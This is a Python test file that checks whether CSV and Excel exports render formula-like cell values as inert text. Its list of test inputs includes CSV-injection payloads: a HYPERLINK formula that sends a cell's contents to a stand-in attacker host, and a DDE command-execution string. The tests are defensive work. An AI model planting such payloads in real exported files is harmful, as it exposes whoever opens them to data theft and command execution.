"""What is written for a spreadsheet stays text, whatever it looks like."""

import csv
import io

import pytest
from hypothesis import given, strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from exchange.written import FORMULA, csv_of, workbook_of

ATTACKS = [
    '=HYPERLINK("https://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_begins_as_a_formula_is_text_in_csv(attack: str) -> None:
    ((cell,),) = csv.reader(io.StringIO(csv_of([[attack]]), newline=""), delimiter=";")
    assert cell == f"'{attack}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_begins_as_a_formula_is_text_in_a_workbook_and_marked_so(attack: str) -> None:
    sheet = load_workbook(io.BytesIO(workbook_of("Avtal", ["Namn"], [[attack]]))).active
    assert sheet is not None
    cell = sheet["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert cell.value.strip() == attack.strip()


def test_a_number_is_a_number_and_a_minus_before_it_is_no_formula() -> None:
    sheet = load_workbook(io.BytesIO(workbook_of("Avtal", ["Platser"], [[-3], [None]]))).active
    assert sheet is not None
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-3, "n")
    assert csv_of([[-3, None]]) == '"-3";""\r\n'


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_cell_of_any_text_begins_as_a_formula_and_none_is_lost(cells: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_of([cells]), newline=""), delimiter=";")
    assert not any(cell.startswith(FORMULA) for cell in row)
    kept = [ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in cells]
    assert [cell.removeprefix("'") for cell in row] == [cell.removeprefix("'") for cell in kept]
